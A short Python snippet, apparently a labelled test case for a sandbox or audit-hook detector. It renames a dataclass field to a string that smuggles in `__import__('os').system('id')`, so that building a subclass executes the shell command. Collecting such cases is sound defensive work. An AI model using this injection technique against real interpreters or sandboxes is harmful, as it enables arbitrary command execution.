# class: string-address
# mechanism: names of fields that are computed
# how: a field renamed before a class is built on it
# reaches: event os.system
from dataclasses import dataclass, fields
@dataclass
class A:
    x: int = 1
for f in fields(A):
    f.name = "x, __import__('os').system('id')"
@dataclass(init=False, eq=False)
class B(A):
    pass
print(B())
